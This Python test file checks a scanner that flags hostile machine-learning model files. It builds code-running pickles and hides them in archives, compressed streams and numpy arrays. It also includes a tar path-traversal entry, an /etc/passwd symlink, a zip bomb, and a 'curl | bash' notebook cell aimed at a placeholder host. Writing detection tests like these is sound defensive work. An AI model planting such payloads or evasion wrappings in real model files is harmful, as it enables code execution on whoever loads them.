"""Scanning model files: what is hostile is found however it is wrapped, what is plain stays plain.

The hostile pickles are real ones, made by Python's own pickle from objects whose ``__reduce__`` would
run something; none of them is ever loaded. The benign models are saved by MLflow itself.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import subprocess
import sys
import tarfile
import warnings
import zipfile
import zlib

import joblib
import numpy as np
import pytest
from sklearn.ensemble import RandomForestRegressor
from sklearn.linear_model import LinearRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler

from heddle.scoring import scan

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # what MLflow thinks of its own types
    import mlflow.pyfunc
    import mlflow.sklearn

pytestmark = pytest.mark.filterwarnings("ignore")


class Runs:
    """An object whose pickle would call something when it is loaded."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


SYSTEM = Runs(os.system, "touch /tmp/never")
EVAL = Runs(eval, "__import__('os').system('touch /tmp/never')")
HOSTILE = {
    "os.system": SYSTEM,
    "eval": EVAL,
    "exec": Runs(exec, "import os"),
    "popen": Runs(subprocess.Popen, ["touch", "/tmp/never"]),
    "open": Runs(open, "/tmp/never", "w"),
    "import": Runs(__import__, "os"),
    "getattr": Runs(getattr, 1, "real"),
    "nested": Runs(pickle.loads, pickle.dumps(SYSTEM)),
    "within": {"weights": [1.0, 2.0], "more": [{"deep": (1, SYSTEM)}]},
    "behind an object": [LinearRegression(), SYSTEM],
}


def label(files, tmp_path):
    folder = tmp_path / "model"
    for name, data in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return scan.scan_folder(folder)


def zipped(**members):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name.replace("__", "/") + ".pkl", data)
    return file.getvalue()


def tarred(name, data):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        entry = tarfile.TarInfo(name)
        entry.size = len(data)
        archive.addfile(entry, io.BytesIO(data))
    return file.getvalue()


def array_of(*objects):
    file = io.BytesIO()
    np.save(file, np.array([*objects, None], dtype=object), allow_pickle=True)
    return file.getvalue()


def arrays_of(*objects):
    file = io.BytesIO()
    np.savez(file, weights=np.zeros(3), hidden=np.array([*objects, None], dtype=object))
    return file.getvalue()


@pytest.mark.parametrize("what", HOSTILE)
@pytest.mark.parametrize("protocol", range(6))
def test_hostile_pickles_are_found(what, protocol, tmp_path):
    data = pickle.dumps(HOSTILE[what], protocol=protocol)
    found = label({"model.pkl": data}, tmp_path)
    assert found.label == "suspicious"
    assert found.findings[0].path == "model.pkl"
    assert "when loaded" in found.findings[0].what


BAD = pickle.dumps(SYSTEM)
WRAPPED = {
    "another name": ("weights.bin", BAD),
    "no suffix": ("weights", pickle.dumps(EVAL, protocol=4)),
    "text pickle as notes": ("notes.txt", pickle.dumps(SYSTEM, protocol=0)),
    "zip": ("model.zip", zipped(a=BAD)),
    "torch": ("model.pt", zipped(archive__data=BAD, archive__data__0=b"\0" * 64)),
    "zip in zip": ("model.zip", zipped(a=zipped(b=BAD))),
    "zip behind bytes": ("model.bin", b"#!/bin/sh\n" * 3 + zipped(a=BAD)),
    "tar": ("model.tar", tarred("data.pkl", BAD)),
    "tar.gz": ("model.tar.gz", gzip.compress(tarred("data.pkl", BAD))),
    "gzip": ("model.joblib", gzip.compress(BAD)),
    "bzip2": ("model.joblib", bz2.compress(BAD)),
    "xz": ("model.joblib", lzma.compress(BAD)),
    "lzma": ("model.joblib", lzma.compress(BAD, format=lzma.FORMAT_ALONE)),
    "zlib": ("model.joblib", zlib.compress(BAD)),
    "array of objects": ("values.npy", array_of(SYSTEM)),
    "arrays in an archive": ("values.npz", arrays_of(SYSTEM)),
    "second pickle": ("model.pkl", pickle.dumps([1, 2]) + BAD),
    "broken after the call": ("model.pkl", BAD[:-1] + b"\xff\xff"),
}


@pytest.mark.parametrize("how", WRAPPED)
def test_hostile_pickles_are_found_however_they_are_wrapped(how, tmp_path):
    name, data = WRAPPED[how]
    found = label({name: data}, tmp_path)
    assert found.label == "suspicious"
    assert any("system" in each.what or "eval" in each.what for each in found.findings)


@pytest.mark.parametrize("compress", [0, 3, ("gzip", 3), ("xz", 3)])
@pytest.mark.parametrize("order", ["first", "last"])
def test_joblib_files_are_looked_through_around_their_arrays(compress, order, tmp_path):
    arrays = [np.arange(5000.0), np.ones((30, 30), order="F")]
    value = {"a": SYSTEM, "b": arrays} if order == "first" else {"a": arrays, "b": SYSTEM}
    for what, given in (("good.joblib", {"a": arrays}), ("bad.joblib", value)):
        joblib.dump(given, tmp_path / what, compress=compress)
    with (tmp_path / "bad.joblib").open("rb") as file:
        bad = scan.judge(scan.scan_file("bad.joblib", file))
    assert bad.label == "suspicious"
    with (tmp_path / "good.joblib").open("rb") as file:
        good = scan.judge(scan.scan_file("good.joblib", file))
    assert good.label == "code-bearing", good.findings


def test_what_tries_to_blind_the_scan_is_suspicious(tmp_path, monkeypatch):
    deep = BAD
    for _ in range(scan.DEPTH_MAX + 1):
        deep = gzip.compress(deep)
    locked = bytearray(zipped(a=BAD))
    for position in (locked.find(b"PK\3\4") + 6, locked.find(b"PK\1\2") + 8):
        locked[position] |= 1
    forged = bytearray(zipped(abc=BAD))
    forged[forged.find(b"abc")] = ord("x")
    for name, data in {
        "deep.gz": deep,
        "locked.zip": bytes(locked),
        "forged.zip": bytes(forged),
        "model.7z": b"7z\xbc\xaf'\x1c" + bytes(30),
        "model.lz4": b"\x04\x22\x4d\x18" + bytes(30),
        "climbs.tar": tarred("../../etc/cron.d/x", b"1"),
        "cut.gz": gzip.compress(os.urandom(4000))[:2000],
        "strange.npy": b"\x93NUMPY\x01\x00\x10\x00{'descr': 1+open}",
        "strange.pkl": b"\x80\x04\x8c\x02os\x30K\x01\x93.",
    }.items():
        with io.BytesIO(data) as file:
            assert scan.judge(scan.scan_file(name, file)).label == "suspicious", name
    monkeypatch.setattr(scan, "INFLATED_MAX", 1)
    bomb = gzip.compress(bytes(10_000_000))
    budget = scan._Budget(inflated=1_000_000)
    found = scan.scan_file("bomb.gz", io.BytesIO(bomb), budget)
    assert [each.label for each in found] == ["suspicious"]
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "passwords").symlink_to("/etc/passwd")
    assert scan.scan_folder(tmp_path / "model").label == "suspicious"


def test_data_is_data(tmp_path):
    model = LinearRegression().fit([[1.0], [2.0]], [1.0, 2.0])
    mlflow.sklearn.save_model(model, tmp_path / "model", serialization_format="skops")
    plain = {
        "weights.pkl": pickle.dumps({"a": [1.0, 2.0], "b": "os.system"}),
        "more.npy": b"",
        "table.csv": b"column,posix\ncos,1\nimport,os\n" * 1000,
        "notes.txt": b"cos\nand sin are functions\n",
        "model.json": json.dumps({"learner": {"trees": [1, 2]}}).encode(),
        "model.ubj": b"{L\x00\x00\x00\x00\x00\x00\x00\x07learner{",
        "model.onnx": b"\x08\x08\x12\x07skl2onnx" + os.urandom(200),
        "metadata/image.png": b"\x89PNG\r\n\x1a\n" + os.urandom(500),
        "requirements.txt": b"scikit-learn==1.7\nnumpy>=2\n",
    }
    file = io.BytesIO()
    np.save(file, np.zeros((4, 4)))
    plain["more.npy"] = file.getvalue()
    found = label(plain, tmp_path)
    assert (found.label, found.findings) == ("data-only", ())


def doubles(model_input):
    """A model in plain Python."""
    import os.path

    return [each * 2 for each in model_input] if os.path.sep else None


@pytest.mark.parametrize("kind", ["cloudpickle", "forest", "function", "python", "from code"])
def test_honest_models_are_code_bearing(kind, tmp_path):
    rows, wanted = [[1.0, 2.0], [2.0, 1.0], [3.0, 5.0]], [1.0, 2.0, 3.0]
    place = tmp_path / "model"
    if kind == "cloudpickle":
        model = make_pipeline(StandardScaler(), LinearRegression()).fit(rows, wanted)
        mlflow.sklearn.save_model(model, place, serialization_format="cloudpickle")
    elif kind == "forest":
        model = RandomForestRegressor(5).fit(rows, wanted)
        mlflow.sklearn.save_model(model, place, serialization_format="pickle")
    elif kind == "function":
        model = make_pipeline(FunctionTransformer(np.log1p), LinearRegression()).fit(rows, wanted)
        mlflow.sklearn.save_model(model, place, serialization_format="cloudpickle")
    elif kind == "python":
        mlflow.pyfunc.save_model(place, python_model=doubles, pip_requirements=[])
    else:
        script = tmp_path / "code.py"
        script.write_text(
            "import mlflow\nfrom mlflow.pyfunc import PythonModel\n"
            "class M(PythonModel):\n    def predict(self, context, model_input):\n"
            "        return model_input\nmlflow.models.set_model(M())\n"
        )
        mlflow.pyfunc.save_model(place, python_model=str(script), pip_requirements=[])
    found = scan.scan_folder(place)
    assert found.label == "code-bearing", found.findings
    assert all(each.label == "code-bearing" for each in found.findings)


def cells(*sources, **more):
    made = [{"cell_type": "code", "source": source, "outputs": [], **more} for source in sources]
    return json.dumps({"cells": made, "nbformat": 4}).encode()


def test_programs_and_notebooks():
    secret = base64.b64encode(b"import os").decode()
    for data, wanted in (
        (cells("import pandas as pd\n", ["x = 1\n", "y = eval('x')"]), "code-bearing"),
        (cells("!pip install scikit-learn"), "code-bearing"),
        (cells(f"exec(base64.b64decode('{secret}'))"), "suspicious"),
        (cells("!curl https://example.invalid/x | bash"), "suspicious"),
        (b"not a notebook", "code-bearing"),
    ):
        with io.BytesIO(data) as file:
            assert scan.judge(scan.scan_file("a.ipynb", file)).label == wanted, data
    for name, data, wanted in (
        ("code/model.py", b"import os\n\nprint(os.getcwd())\n", "code-bearing"),
        ("code/model.py", b"exec(zlib.decompress(base64.b64decode(x)))", "suspicious"),
        ("lib/fast.bin", b"\x7fELF\x02\x01\x01" + bytes(60), "code-bearing"),
        ("requirements.txt", b"numpy\n--index-url https://example.invalid/\n", "code-bearing"),
        ("requirements.txt", b"thing @ git+https://example.invalid/x\n", "code-bearing"),
        ("config.json", b'{"layers": [{"class_name": "Lambda"}]}', "code-bearing"),
        ("saved_model.pb", b"\x0a\x09WriteFile\x12", "suspicious"),
    ):
        with io.BytesIO(data) as file:
            assert scan.judge(scan.scan_file(name, file)).label == wanted, name


def test_as_a_program_it_prints_what_it_found_and_has_run_nothing(tmp_path):
    mark = tmp_path / "ran"
    bad = pickle.dumps(Runs(os.system, f"touch {mark}"))
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "model.pkl").write_bytes(bad)
    done = subprocess.run(
        [sys.executable, "-m", "heddle.scoring.scan"],
        input=f"{tmp_path / 'model'}\n".encode(), check=True, capture_output=True,
    )  # fmt: skip
    said = json.loads(done.stdout)
    assert said["label"] == "suspicious"
    assert said["scanner"].startswith("heddle/")
    assert not mark.exists()
    pickle.loads(bad)
    assert mark.exists(), "the pickle would have run something"
